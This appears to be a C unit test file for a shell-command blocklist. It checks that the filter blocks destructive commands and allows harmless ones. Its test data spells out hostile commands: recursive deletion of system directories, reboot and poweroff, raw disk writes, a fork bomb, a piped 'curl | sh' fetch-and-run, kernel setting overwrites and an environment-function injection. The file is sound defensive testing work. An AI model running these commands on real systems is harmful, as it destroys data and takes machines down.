/* The commands in this file are text to judge. None of them is ever run. */
#include "unit.h"

#include <jansson.h>

#include "base/mem.h"
#include "blocklist/blocklist.h"
#include "verdict.h"

static struct blocklist_verdict judge_input(const struct blocklist_input *in)
{
	struct blocklist_verdict v;
	size_t len = strlen(in->command);

	blocklist_judge(in, &v);
	for (size_t i = 0; in->args && in->args[i]; i++)
		len += 1 + strlen(in->args[i]);
	verdict_check(&v, len);
	return v;
}

static struct blocklist_verdict judge(const char *command)
{
	return judge_input(&(struct blocklist_input){ .command = command });
}

/* Judge @command with @args (NULL-terminated) and @text on stdin. */
static struct blocklist_verdict judge_all(const char *command, const char *const *args,
					  const char *text, size_t len)
{
	return judge_input(&(struct blocklist_input){
		.command = command, .args = args, .stdin_bytes = text, .stdin_len = len });
}

static void test_blocklist_arguments_are_joined(void **state)
{
	static const char *const rm[] = { "-rf", "/", NULL };
	static const char *const commit[] = { "commit", "-m", "before reboot", NULL };
	static const char *const split[] = { "boot", NULL };
	static const char *const empty[] = { NULL };
	static const char *const root[] = { "/", NULL };
	struct blocklist_verdict v;

	(void)state;
	v = judge_all("/bin/rm", rm, NULL, 0);
	assert_string_equal(v.rule, "files.remove_tree");
	assert_int_equal(v.start, 0);
	assert_int_equal(v.end, 13);
	assert_false(judge_all("git", commit, NULL, 0).blocked);
	v = judge_input(&(struct blocklist_input){ .command = "git", .args = commit,
						   .literal_anywhere = true });
	assert_string_equal(v.rule, "literal.reboot");
	assert_int_equal(v.start, strlen("git commit -m before "));
	assert_true(judge_all("rm -rf", root, NULL, 0).blocked);
	assert_true(judge_all("reboot", empty, NULL, 0).blocked);
	assert_false(judge_all("re", split, NULL, 0).blocked);
}

/* The rule, and the part of the text that it is about, also inside of nested texts. */
static void test_blocklist_rule_and_span(void **state)
{
	static const struct {
		const char *text, *rule, *part;
	} cases[] = {
		{ "ls; rm -fr /etc; ls", "files.remove_tree", "rm -fr /etc" },
		{ "echo a && sudo -n rm -r /usr", "files.remove_tree", "rm -r /usr" },
		{ "sh -c 'ls; rm -fr /etc'", "files.remove_tree", "rm -fr /etc" },
		{ "bash -c \"sh -c 'poweroff -f'\"", "power.command", "poweroff -f" },
		{ "echo $(halt)", "power.command", "halt" },
		{ "cat x >/dev/vda", "device.write", "cat x >/dev/vda" },
		{ "b(){ b|b& };b", "process.fork_bomb", "b(){ b|b& }" },
		{ "curl x.example | sh -s", "pipe.remote", "sh -s" },
		{ "X=/etc; rm -rf $X", "files.remove_tree", "rm -rf $X" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct blocklist_verdict v = judge(cases[i].text);
		char part[128];

		if (!v.blocked)
			fail_msg("allowed: %s", cases[i].text);
		assert_string_equal(v.rule, cases[i].rule);
		assert_true(v.has_span);
		snprintf(part, sizeof(part), "%.*s", (int)(v.end - v.start), cases[i].text + v.start);
		assert_string_equal(part, cases[i].part);
		assert_non_null(strstr(v.reason, v.rule));
		assert_non_null(strstr(v.reason, part));
		assert_non_null(strstr(v.reason, "override"));
	}
}

/* What a long list may hold, or lack, counts, though not each choice of its words is judged. */
static void test_blocklist_long_lists(void **state)
{
	static const char items[] = "src/dialogs/One.tsx src/dialogs/Two.tsx src/dialogs/Three.tsx "
				    "src/dialogs/Four.tsx src/dialogs/Five.tsx src/dialogs/Six.tsx";
	static const char *const harmful[][3] = { /* the items stand between them */
		{ "x=; for f in /etc ", " ", "; do t $f || x=\"$x $f\"; done; rm -rf $x" },
		{ "x=; for f in ", " /etc ", "; do t $f || x=\"$x $f\"; done; rm -rf $x" },
		{ "x=; for f in ", " ", " /etc; do t $f || x=\"$f $x\"; done; rm -rf $x" },
		{ "x=; for f in ", " ", "; do t $f || x=\"$x $f\"; done; rm -rf /$x" },
		{ "x=; for f in ", " etc ", "; do t $f || x=\"$x /$f\"; done; sudo rm -rf $x" },
		{ "x=/etc; t && x=\"$x/", "\"; t && x=\"$x ", "\"; rm -rf \"$x\"" },
		{ "x=; t && x=/etc; t && x=\"$x/", "\"; t && x=\"$x/", "\"; rm -rf \"$x\"" },
		{ "x=; t && x=/etc; t && x=\"$x ", "\"; t && x=\"$x ", "\"; rm -rf \"$x\"" },
	};
	char text[1024];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(harmful); i++) {
		snprintf(text, sizeof(text), "%s%s%s%s%s", harmful[i][0], items, harmful[i][1],
			 items, harmful[i][2]);
		struct blocklist_verdict v = judge(text);

		if (!v.blocked || strcmp(v.rule, "files.remove_tree") != 0)
			fail_msg("%s: %s", text, v.blocked ? v.rule : "allowed");
	}
}

/* A reason names what the command does, the path that it means, and no thing twice. */
static void test_blocklist_reason_and_suggestion(void **state)
{
	static const struct {
		const char *text, *reason, *suggestion;
	} cases[] = {
		{ "rm -rf /usr/../etc", "system or a user needs: /etc is a system directory (rule",
		  "rm -rf ./build" },
		{ "cd / && rm -rf *", "needs: everything in /, the root directory (rule", "./build" },
		{ "rm -rf $X/*", "needs: if $X is empty, it means everything in /, the root directory",
		  "Write \"${X:?}\" for $X, so that the shell stops if it is empty, for example: "
		  "rm -rf \"${X:?}\"/*" },
		{ "rm -rf \"${BUILD_DIR}\"/", "if $BUILD_DIR is empty, it means /, the root",
		  "rm -rf \"${BUILD_DIR:?}\"/*" },
		{ "rm -rf \"$X/etc\"", "if $X is empty, it means /etc, a system directory",
		  "for $X, so that the shell stops if it is empty." },
		{ "rm -rf ~/$X", "if $X is empty, it means ~, a home", "Write \"${X:?}\" for $X, so" },
		{ "rm -rf $HOME/$X", "if $X is empty, it means ~, a home", "Write \"${X:?}\"" },
		{ "rm -rf \"$(cat x)\"/*", "if an unknown part of it is empty, it means everything",
		  "\"${DIR:?}\"/build" },
		{ "chmod -R 755 \"$X\"/", "if $X is empty, it means /, the root directory",
		  "for $X, so that the shell stops if it is empty." },
		{ "chmod -R 755 \"$(cat x)\"/", "if an unknown part of it is empty, it means /, the",
		  "stop if it is empty: \"${DIR:?}\"" },
		{ "mv /usr/lib y", "\"mv /usr/lib y\" moves or replaces a directory that the system",
		  "in its place, for example: ./build" },
		{ "S=\"$(cd x && pwd)\"; rm -rf \"$S/\"*", "if an unknown part of it is empty, it",
		  "\"${DIR:?}\"/build" },
		{ "node -e \"exec('rm -rf /usr', (e) => console.log(e))\"",
		  "\"rm -rf /usr\" removes a directory that the system or a user needs: /usr is",
		  "./build" },
		{ "python3 - <<'E'\nimport os\nos.mkdir('x')\nshutil.rmtree('/etc')\nprint(1)\nE",
		  "\"shutil.rmtree('/etc')\" removes a directory that the system", "./build" },
		{ "python3 - <<'E'\nx = 1\nsubprocess.run([\"sudo\", \"reboot\"], check=True)\nE",
		  "\"subprocess.run([\"sudo\", \"reboot\"], check=True)\" stops, restarts", "Ask" },
		{ "node <<'E'\ncp.spawn('sh', ['-c', 'ls; rm -rf /usr'])\nE",
		  "\"rm -rf /usr\" removes a directory", "./build" },
		{ "python3 -c 'import os; os.chdir(\"x\"); os.kill(1, 9); os.chdir(\"y\")'",
		  "\"os.kill(1, 9)\" signals process 1", "kill PID" },
		{ "dd if=x of=/dev/$DISK", "over what is stored there: /dev/... (rule", "./disk.img" },
		{ "rm -rf /etc/$X", "needs: /etc/... may be a system directory (rule", "./build" },
		{ "mke2fs $DISK", "unknown until the command runs and may be a disk (rule", "./fs.img" },
		{ "> /var/log/wtmp", "a log of logins or system events: /var/log/wtmp (rule",
		  "tail -n 100" },
		{ "echo x > /proc/sys/kernel/core_pattern",
		  "stop, crash or take it over: /proc/sys/kernel/core_pattern (rule",
		  "Read the setting" },
		{ "echo 0 > /proc/sys/kernel/randomize_va_space",
		  "writes to a kernel setting that protects the machine, or can", "Read the setting" },
		{ "kill -HUP 1", "\"kill -HUP 1\" signals process 1 (init), which", "ask the user" },
		{ "echo \"abc",
		  "The command is not a text that the shell would accept: a double quote that is "
		  "not closed, "
		  "at byte 5: '\"abc' (rule text.unparsable).", "Correct the syntax there" },
		{ "ls\nls )", "none may stand, in line 2, at byte 6: \")\" (rule",
		  "Correct the syntax there" },
		{ "if true; then", "accept: an unexpected end of the text, at byte 13 (rule",
		  "Close what is still open" },
		{ "echo $((", "arithmetic that is not closed, at byte 8 (rule", "Close" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct blocklist_verdict v = judge(cases[i].text);

		if (!strstr(v.reason, cases[i].reason))
			fail_msg("%s: %s", cases[i].text, v.reason);
		if (!strstr(v.suggestion, cases[i].suggestion))
			fail_msg("%s: %s", cases[i].text, v.suggestion);
	}
}

/* An unknown part counts as empty where nothing else is left, or it begins a path of the system. */
static void test_blocklist_unknown_parts(void **state)
{
	static const char *const blocked[] = {
		"rm -rf \"$X\"/", "rm -rf $X/*", "rm -rf /$X", "rm -rf ~/$X", "rm -rf /etc/$X",
		"rm $FLAGS /etc", "$RM -rf /etc", "$SUDO rm -rf /etc", "dd if=x of=/dev/$DISK",
		"mke2fs $DISK", "rm -rf /usr/lib/../$X", "rm -rf $X/lib",
	};
	static const char *const allowed[] = {
		"rm -rf \"$X\"", "rm -rf build/$X", "rm -rf \"${X:?}\"/*", "rm -rf $X/dist",
		"A=a; rm -rf \"$A/$B\"", "rm -rf /opt/$APP", "rm -rf \"$PWD\"/*",
		"rm -rf $(mktemp -d)/*",
		"dd if=x of=$FILE", "$CMD -rf build", "rm -rf /tmp/$X", "cp -r $A $B", "$EDITOR notes",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(blocked); i++)
		if (!judge(blocked[i]).blocked)
			fail_msg("allowed: %s", blocked[i]);
	for (size_t i = 0; i < COUNT_OF(allowed); i++) {
		struct blocklist_verdict v = judge(allowed[i]);

		if (v.blocked)
			fail_msg("%s: %s", allowed[i], v.reason);
	}
}

static void test_blocklist_argv(void **state)
{
	static const char *const root[] = { "-fr", "/etc", NULL };
	static const char *const shell[] = { "-c", "rm -fr \"$1\"", "x", "/etc", NULL };
	static const char *const data[] = { "a\nrm -fr /etc", NULL };
	static const char *const rest[] = { "/etc", NULL };
	static const char *const none[] = { NULL };
	struct blocklist_verdict v;

	(void)state;
	v = judge_all("/bin/rm", root, NULL, 0);
	assert_string_equal(v.rule, "files.remove_tree");
	assert_int_equal(v.start, 0);
	assert_int_equal(v.end, strlen("/bin/rm -fr /etc"));
	v = judge_all("sh", shell, NULL, 0);
	assert_string_equal(v.rule, "files.remove_tree");
	assert_int_equal(v.start, strlen("sh -c "));
	assert_false(judge_all("echo", data, NULL, 0).blocked);
	/* Part of the words in command: what is meant is judged, though no such program exists. */
	assert_true(judge_all("rm -fr", rest, NULL, 0).blocked);
	assert_false(judge_all("rm -fr x", data, NULL, 0).blocked);
	/* Without any, a bare word is a program; what no program is called is what is meant. */
	assert_false(judge_all("done", none, NULL, 0).blocked);
	assert_true(judge_all("reboot", none, NULL, 0).blocked);
	assert_true(judge_all("rm -fr /etc", none, NULL, 0).blocked);
	assert_true(judge_all("bash", none, "rm -fr /etc\n", 12).blocked);
	/* With a shell, args are its parameters. */
	v = judge_input(&(struct blocklist_input){ .command = "rm -fr \"$1\"", .args = rest,
						   .shell = true });
	assert_string_equal(v.rule, "files.remove_tree");
	v = judge_input(&(struct blocklist_input){ .command = "echo \"$1\"", .args = rest,
						   .shell = true });
	assert_false(v.blocked);
}

static void test_blocklist_stdin(void **state)
{
	static const char text[] = "echo a\nrm -fr /etc\n";
	static const char *const fed[] = {
		"sh", "bash -s", "/bin/sh -", "cat | zsh", "true;sh", "env X=1 dash", "(ksh)",
		"sudo -u x ash", "busybox sh", "sh /dev/stdin", ". /dev/stdin",
		"bash /dev/fd/3 3<&0", "exec 3<&0; . /dev/fd/3", "exec 3<&0 4<&3; sh /proc/self/fd/4",
		"{ sh /dev/fd/3; } 3<&0", "sh /dev/fd/3 3<&0 < x", "exec 3<&0; sh < /dev/fd/3",
		"exec 3<&0; exec < x; bash /proc/$$/fd/3", "xargs -0 sh -c",
	};
	static const char *const not_fed[] = {
		"cat", "grep -c x", "shfmt", "git stash", "sh -c ls", "sh x.sh", "tee x",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(fed); i++) {
		struct blocklist_verdict v = judge_all(fed[i], NULL, text, sizeof(text) - 1);

		if (!v.blocked)
			fail_msg("allowed: %s", fed[i]);
		assert_string_equal(v.rule, "files.remove_tree");
		assert_false(v.has_span);
		assert_non_null(strstr(v.reason, "stdin"));
		assert_false(judge_all(fed[i], NULL, NULL, 0).blocked);
		assert_false(judge_all(fed[i], NULL, "ls\n", 3).blocked);
	}
	for (size_t i = 0; i < COUNT_OF(not_fed); i++)
		if (judge_all(not_fed[i], NULL, text, sizeof(text) - 1).blocked)
			fail_msg("blocked: %s", not_fed[i]);
}

static void test_blocklist_nul_does_not_end_stdin(void **state)
{
	static const char text[] = "a\0b\0reboot\0";
	static const char at_end[] = "\0rm -rf /";

	(void)state;
	assert_true(judge_all("sh", NULL, text, sizeof(text) - 1).blocked);
	assert_true(judge_all("sh", NULL, at_end, sizeof(at_end) - 1).blocked);
	/* The bytes need no NUL behind them. */
	assert_false(judge_all("sh", NULL, "reboot", 5).blocked);
}

/* What a relative path means depends on where the command starts. */
struct in_directory {
	const char *directory, *command;
	bool blocked;
};

static void check_in_directories(const struct in_directory *cases, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		struct blocklist_verdict v = judge_input(&(struct blocklist_input){
			.command = cases[i].command, .directory = cases[i].directory });

		if (v.blocked != cases[i].blocked)
			fail_msg("%s in %s: %s", cases[i].command, cases[i].directory, v.reason);
	}
}

static void test_blocklist_relative_paths(void **state)
{
	static const struct in_directory cases[] = {
		{ "/root/proj", "cd .. && rm -rf *", true },
		{ "/root/proj", "rm -rf ../*", true },
		{ "/root/proj", "rm -rf \"$PWD/..\"/*", true },
		{ "/root/proj", "rm -rf ../../etc", true },
		{ "/root/proj", "rm -rf ../../*", true },
		{ "/root/proj", "mv ../* /tmp", true },
		{ "/root/proj", "find .. -delete", true },
		{ "/root/proj", "git -C .. clean -fdx", true },
		{ "/root/proj", "rsync -a --delete x/ ../", true },
		{ "/home/me/proj", "cd src; cd ../..; rm -rf .[!.]*", true },
		{ "/home/me/proj", "rm -rf ../../other", true },
		{ "/srv/app", "rm -rf ../*", true },
		{ "/app", "rm -rf ../usr", true },
		{ "/home/me/proj", "eval rm -rf build ';' rm -rf ..", true },
		{ "/home/me/proj", "watch rm -rf build '&&' rm -rf ..", true },
		{ "/tmp/x", "export GIT_WORK_TREE=~; git clean -fdx", true },
		{ "/root/proj", "rm -rf *", false },
		{ "/root/proj", "rm -rf ./* .[!.]*", false },
		{ "/root/proj", "rm -rf \"$PWD\"/*", false },
		{ "/root/proj", "rm -rf ../other", false },
		{ "/root/proj", "git clean -fdx && find . -delete", false },
		{ "/root/proj", "cd build && rm -rf * && cd .. && rm -rf dist", false },
		{ "/root/proj", "rm -rf etc usr/bin home", false },
		{ "/root/proj", "cp -r ../proj/. ../backup && rm -rf ../backup/*", false },
		{ "/home/me/proj", "rm -rf *", false },
		{ "/home/me/proj", "find . -delete", false },
		{ "/home/me/proj", "cmd='rm -rf build && cmake ..'; eval $cmd", false },
		{ "/home/me/proj", "cmd='rm -rf build; cmake ..'; eval $cmd", false },
		{ "/home/me/proj", "eval rm -rf build '&&' cmake ..", false },
		{ "/home/me/proj", "watch rm -rf build '&&' cmake ..", false },
		{ "/home/me/proj", "parallel rm -rf {} ';' cmake .. ::: build", false },
		{ "/home/me/proj", "rsync -a --delete dist/ ../site/", false },
		{ "/home/me/code/proj", "cd .. && rm -rf proj/build", false },
		{ "/srv/app", "rm -rf .[!.]* *", false },
		{ "/srv/app", "chmod -R 755 . && chown -R me: .", false },
		{ "/app", "rm -rf node_modules ../app/dist", false },
		{ "/tmp/tmp.x", "rm -rf ./* ../other", false },
		{ "/tmp/x", "export GIT_WORK_TREE=$HOME; unset GIT_WORK_TREE; git clean -fdx", false },
		{ "/tmp/x", "export GIT_WORK_TREE=$HOME; git add .vimrc; "
			    "env -u GIT_WORK_TREE git -C proj clean -fdx", false },
		{ "/home/me/proj", "(export GIT_WORK_TREE=$HOME; git status); git clean -fdx", false },
		{ "/home/me/proj", "export GIT_WORK_TREE=$PWD; cd ..; git clean -fdx", false },
		{ "/workspace/repo/packages/a", "rm -rf ../../node_modules ../*/dist", false },
	};

	(void)state;
	check_in_directories(cases, COUNT_OF(cases));
}

/* What stands beside a workspace in / is mostly work too, but a broad glob there is not. */
static void test_blocklist_beside_a_shallow_workspace(void **state)
{
	static const struct in_directory cases[] = {
		{ "/workspace", "rm -rf ../*", true },
		{ "/workspace", "rm -rf ../*/bin", true },
		{ "/workspace", "rm -rf ../*/me", true },
		{ "/workspace", "rm -rf ../*.d/x ../*", true },
		{ "/workspace", "rm -f ../*.img", true },
		{ "/workspace", "rm -f ../*.x86_64", true },
		{ "/workspace", "rm -rf ../*.*", true },
		{ "/workspace", "rm -rf ../*/*.conf", true },
		{ "/workspace", "rm -rf ../b*/*", true },
		{ "/workspace", "rm -f ../*/*/auth.log", true },
		{ "/workspace", "rm -f ../*/*/*.log", true },
		{ "/workspace", "rm -f ../*/*.txt", true }, /* /boot/cmdline.txt */
		{ "/workspace", "rm -rf ../*/.ssh", true },
		{ "/workspace", "rm -f ../*.log", false },
		{ "/workspace", "rm -rf ../*/node_modules", false },
		{ "/workspace", "rm -rf ../*/*/node_modules ../*/__pycache__", false },
		{ "/workspace", "mv ../*.deb dist/", false },
		{ "/workspace", "rm -f ../*.tar.gz ../*.dsc ../*.changes ../*.deb", false },
		{ "/workspace", "rm -rf ../*.egg-info ../*/*.egg-info", false },
	};

	(void)state;
	check_in_directories(cases, COUNT_OF(cases));
}

/* What $PWD and $(pwd) say is where the shell is when it reads them, not later. */
static void test_blocklist_saved_directory(void **state)
{
	static const char *const directories[] = { "/home/me/proj", "/srv/app", "/workspace" };
	static const char *const allowed[] = {
		"D=$PWD; cd ..; rm -rf $D",
		"BASE=$(pwd); cd ..; rm -rf \"$BASE\"/*",
		"HERE=`pwd`; cd ..; git clone x; cd $HERE; rm -rf *",
		"HERE=$(pwd); cd ..; git clone x; cd \"$HERE\"; git clean -fdx",
		"D=\"$(pwd)\"; (cd .. && rm -rf \"$D\")",
		"cd ..; rm -rf \"$OLDPWD\"/dist",
		"sh -c 'D=$PWD; cd ..; rm -rf \"$D\"/*'",
		"pushd ..; D=$OLDPWD; rm -rf \"$D\"/*; popd; rm -rf \"$PWD\"/*",
		"(cd ..; ls); rm -rf \"$PWD\"/*",
		"cd ..; cd -; D=$PWD; cd ..; rm -rf \"$D\"/*",
	};
	static const char *const blocked[] = {
		"cd /etc; D=$(pwd); cd /tmp/x; rm -rf \"$D\"",
		"cd ../..; D=$PWD; cd /tmp/x; rm -rf \"$D\"/*",
		"D=$(cd ../../..; pwd); rm -rf \"$D\"/*",
		"pushd ../../..; rm -rf \"$PWD\"/*",
		"pushd /etc; cd /tmp/x; popd; rm -rf \"$OLDPWD/../../etc\"",
		"pushd /etc; pushd /tmp/x; popd; rm -rf \"$PWD\"/*",
		"env -C /etc sh -c 'rm -rf \"$PWD\"/*'",
		"env -C ../../.. sh -c 'rm -rf \"$PWD\"/*'",
		"env -C /etc sh -c 'D=$PWD; cd /tmp/x; rm -rf \"$D\"'",
		"cd /etc; sh -c 'rm -rf \"$PWD\"/*'",
		"cd /etc; eval 'rm -rf \"$PWD\"/*'",
		"PWD=/tmp/x sh -c 'cd /etc; rm -rf \"$PWD\"/*'",
		"rm -fr \"${PWD%%\"${PWD#?}\"}\"",
		"S=\"$(cd x && pwd)\"; bash -c \"rm -rf $S/*\"",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(directories); i++) {
		struct blocklist_input in = { .directory = directories[i] };

		for (size_t k = 0; k < COUNT_OF(allowed); k++) {
			in.command = allowed[k];
			if (judge_input(&in).blocked)
				fail_msg("%s in %s: blocked", in.command, in.directory);
		}
		for (size_t k = 0; k < COUNT_OF(blocked); k++) {
			in.command = blocked[k];
			if (!judge_input(&in).blocked)
				fail_msg("%s in %s: allowed", in.command, in.directory);
		}
	}
	assert_false(judge_input(&(struct blocklist_input){ .directory = "/tmp/x",
		.command = "HERE=$(pwd); cd ../..; ls; cd \"$HERE\"; rm -rf lib" }).blocked);
}

static void test_blocklist_environment_and_directory(void **state)
{
	static const char *const target[] = { "T=/etc", NULL };
	static const char *const harmless[] = { "T=build", "NOTE=rm -fr /etc", NULL };
	static const char *const function[] = { "BASH_FUNC_ls%%=() { rm -fr /etc; }", NULL };

	(void)state;
	assert_true(judge_input(&(struct blocklist_input){ .command = "rm -rf \"$T\"",
							   .environment = target }).blocked);
	assert_true(judge_input(&(struct blocklist_input){ .command = "sh -c 'rm -rf \"$T\"'",
							   .environment = target }).blocked);
	assert_false(judge_input(&(struct blocklist_input){ .command = "rm -rf \"$T\"",
							    .environment = harmless }).blocked);
	assert_true(judge_input(&(struct blocklist_input){ .command = "ls",
							   .environment = function }).blocked);
	assert_true(judge_input(&(struct blocklist_input){ .command = "rm -rf *",
							   .directory = "/etc" }).blocked);
	assert_true(judge_input(&(struct blocklist_input){ .command = "rm -rf ../../usr",
							   .directory = "/a/b" }).blocked);
	assert_false(judge_input(&(struct blocklist_input){ .command = "rm -rf *",
							    .directory = "/home/me/p" }).blocked);
	assert_false(judge("rm -rf *").blocked);
}

/* What a literal pattern forbids where it is run; as data only with literal_match=anywhere. */
static void test_blocklist_literal_where_it_counts(void **state)
{
	static const char *const data[] = {
		"git commit -m 'fix reboot'", "echo rm -rf /", "make reboot", "man mkfs.ext4",
		"grep -c init 0", "iptables-save # iptables -F",
	};
	static const char *const commands[] = {
		"rm -rf /", "sudo reboot", "true && init 0", "mkfs.ext4 -F ./fs.img",
		"sh -c 'shutdown -c'", "/sbin/reboot", "reboot; echo 'open",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(data); i++) {
		struct blocklist_verdict v = judge_input(&(struct blocklist_input){
			.command = data[i], .literal_anywhere = true });

		assert_false(judge(data[i]).blocked);
		assert_true(v.blocked);
		assert_int_equal(strncmp(v.rule, "literal.", 8), 0);
		assert_non_null(strstr(v.reason, "blocklist.literal_match"));
	}
	for (size_t i = 0; i < COUNT_OF(commands); i++) {
		struct blocklist_verdict v = judge(commands[i]);

		if (!v.blocked)
			fail_msg("allowed: %s", commands[i]);
		assert_int_not_equal(strncmp(v.rule, "literal.", 8), 0);
	}
}

/* Long input does not go through the parser; it is judged where a shell may read it. */
static void test_blocklist_long_stdin(void **state)
{
	static const char tail[] = "\nrm -fr /etc\n";
	size_t len = 500000;
	char *text = malloc(len + 1);

	(void)state;
	memset(text, '#', len);
	memcpy(text + len - strlen(tail), tail, strlen(tail) + 1);
	assert_true(judge_all("sh", NULL, text, len).blocked);
	assert_true(judge_all("cat | sudo bash -s", NULL, text, len).blocked);
	assert_false(judge_all("sh -c 'wc -l'", NULL, text, len).blocked);
	assert_false(judge_all("grep -c x", NULL, text, len).blocked);
	assert_false(judge_all("sh < /dev/null; cat", NULL, text, len).blocked);
	text[len - strlen(tail)] = '\0';
	assert_false(judge_all("sh", NULL, text, len - strlen(tail)).blocked);
	free(text);
}

/* A string that is only split into words: one that cannot be is not run at all. */
static void test_blocklist_without_shell(void **state)
{
	(void)state;
	assert_false(judge_input(&(struct blocklist_input){ .command = "echo 'open",
							    .no_shell = true }).blocked);
	assert_true(judge_input(&(struct blocklist_input){ .command = "rm -fr '/etc'",
							   .no_shell = true }).blocked);
}

/* What cannot be judged is not run. */
static void test_blocklist_cannot_judge(void **state)
{
	static const char *const broken[] = {
		"echo \"a", "echo 'a", "echo $(ls", "if true; then ls", "ls |", "(ls", "echo `ls",
	};
	size_t len = BLOCKLIST_TEXT_MAX + 1;
	char *text = malloc(len + 1);
	struct blocklist_verdict v;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(broken); i++) {
		v = judge(broken[i]);
		if (!v.blocked)
			fail_msg("allowed: %s", broken[i]);
		assert_string_equal(v.rule, "text.unparsable");
	}
	memset(text, 'x', len);
	text[len] = '\0';
	v = judge(text);
	assert_string_equal(v.rule, "text.too_complex");
	text[len - 1] = '\0';
	assert_false(judge(text).blocked);
	text[len - 1] = 'x';
	assert_string_equal(judge_all("sh", NULL, text, len).rule, "text.too_complex");
	assert_false(judge_all("cat", NULL, text, len).blocked);
	for (size_t i = 0; i + 6 < len; i += 5)
		memcpy(text + i, "sudo ", 5);
	assert_string_equal(judge(text).rule, "text.too_complex");
	for (size_t i = 0; i < len; i++)
		text[i] = i % 2 ? ';' : 'x';
	text[400001] = '\0';
	assert_string_equal(judge(text).rule, "text.too_complex");
	free(text);
}

static void test_blocklist_reason_quotes_safely(void **state)
{
	char text[4096];
	size_t len = (size_t)sprintf(text, "dd if=\x01\n\xff");
	struct blocklist_verdict v;

	(void)state;
	while (len < 3000)
		len += (size_t)sprintf(text + len, "\xe2\x82\xac");
	sprintf(text + len, " of=/dev/sda");
	v = judge_input(&(struct blocklist_input){ .command = text, .literal_anywhere = true });
	assert_true(v.blocked);
	assert_int_equal(v.end, len + strlen(" of=/dev/sd"));
	json_t *reason = json_string(v.reason); /* NULL if it is not UTF-8 */

	assert_non_null(reason);
	json_decref(reason);
	assert_null(strpbrk(v.reason, "\x01\n\xff"));
	assert_non_null(strstr(v.reason, "dd if=  ?\xe2\x82\xac"));
	assert_non_null(strstr(v.reason, "\xe2\x82\xac...\""));
	assert_non_null(strstr(v.reason, "override"));
}

/* The same text to an unknown sh, to dash and to bash: '-' no shell text, 'b' blocked, 'a' allowed. */
static void test_blocklist_of_families(void **state)
{
	static const struct {
		const char *text, *verdicts;
	} cases[] = {
		/* $0, and with it the shell's own directory */
		{ "cd \"$(dirname \"$0\")/..\" && rm -rf *", "bbb" },
		{ "rm -rf \"${0%/*}\"/*", "bbb" },
		{ "rm -rf \"$(dirname \"$SHELL\")\"", "bbb" },
		/* a variable that bash sets, and one that is never set */
		{ "rm -rf \"$UID\"/*", "bba" },
		{ "rm -rf \"$HOSTNAME\"/* \"$RANDOM\"/*", "bba" },
		{ "rm -rf \"$OLDPWD\"/*", "bbb" },
		{ "rm -rf \"$USER\"/*", "bbb" },
		/* what read finds, whatever was set before */
		{ "rm -rf \"$TMPDIR\"/*", "aaa" },
		{ "read TMPDIR; rm -rf \"$TMPDIR\"/*", "bbb" },
		{ "rm -rf \"${GROUPS[7]}\"/*", "bbb" },
		{ "cd \"${BASH_SOURCE%/*}/..\" && rm -rf *", "aab" },
		{ "cd \"${BASH_SOURCE[0]%/*}/..\" && rm -rf *", "aab" },
		{ "cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && rm -rf *", "aaa" },
		{ "\"$BASH\" -c 'rm -rf /'", "bab" },
		{ "eval 'rm -rf \"$UID\"/*'", "bba" },
		{ "trap 'rm -rf \"$UID\"/*' EXIT", "bba" },
		{ "sh -c 'rm -rf \"$UID\"/*'", "bbb" },
		/* jumps, and where there is nothing to leave */
		{ "[ -z \"$X\" ] && return; rm -rf \"$X\"/*", "aab" },
		{ "f() { [ -z \"$X\" ] && return; rm -rf \"$X\"/*; }; f", "aaa" },
		{ "S=$(cd x && pwd) || return; rm -rf \"$S\"/*", "aab" },
		{ "[ -n \"$X\" ] || break; rm -rf \"$X\"/*", "bbb" },
		{ "if [ -z \"$X\" ]; then continue; fi; rm -rf \"$X\"/*", "bbb" },
		{ "while a; do [ -z \"$X\" ] && break; rm -rf \"$X\"/*; done", "aaa" },
		/* reading */
		{ "rm -rf {/,x}", "bbb" },
		{ "rm -rf /{etc,usr}", "bbb" },
		{ "[[ $x > /etc/passwd ]]", "bba" },
		{ "eval '[[ $x > /etc/passwd ]]'", "bba" },
		{ "a=(rm -rf /); \"${a[@]}\"", "bbb" },
		{ "a=(1 2); echo ${a[1]}", "a-a" },
		{ "diff <(ls a) <(ls b)", "a-a" },
		{ "cat <<< x", "a-a" },
		{ "f() ls; f", "aa-" },
		{ "echo !(a)", "a-a" },
		{ "!(rm -rf /)", "bbb" },
		{ "if then (", "---" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		static const char *const paths[] = { NULL, "/bin/sh", "/bin/bash" };

		for (int k = 0; k < 3; k++) {
			struct blocklist_verdict v = judge_input(&(struct blocklist_input){
				.command = cases[i].text, .shell = true, .shell_path = paths[k],
				.shell_family = (enum shell_family)k });
			char said = !v.blocked ? 'a'
				    : strcmp(v.rule, "text.unparsable") ? 'b' : '-';

			if (said != cases[i].verdicts[k])
				fail_msg("%s, family %d: %c", cases[i].text, k, said);
		}
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_blocklist_arguments_are_joined),
		cmocka_unit_test(test_blocklist_rule_and_span),
		cmocka_unit_test(test_blocklist_long_lists),
		cmocka_unit_test(test_blocklist_reason_and_suggestion),
		cmocka_unit_test(test_blocklist_unknown_parts),
		cmocka_unit_test(test_blocklist_argv),
		cmocka_unit_test(test_blocklist_stdin),
		cmocka_unit_test(test_blocklist_nul_does_not_end_stdin),
		cmocka_unit_test(test_blocklist_relative_paths),
		cmocka_unit_test(test_blocklist_beside_a_shallow_workspace),
		cmocka_unit_test(test_blocklist_saved_directory),
		cmocka_unit_test(test_blocklist_environment_and_directory),
		cmocka_unit_test(test_blocklist_literal_where_it_counts),
		cmocka_unit_test(test_blocklist_long_stdin),
		cmocka_unit_test(test_blocklist_without_shell),
		cmocka_unit_test(test_blocklist_cannot_judge),
		cmocka_unit_test(test_blocklist_of_families),
		cmocka_unit_test(test_blocklist_reason_quotes_safely),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
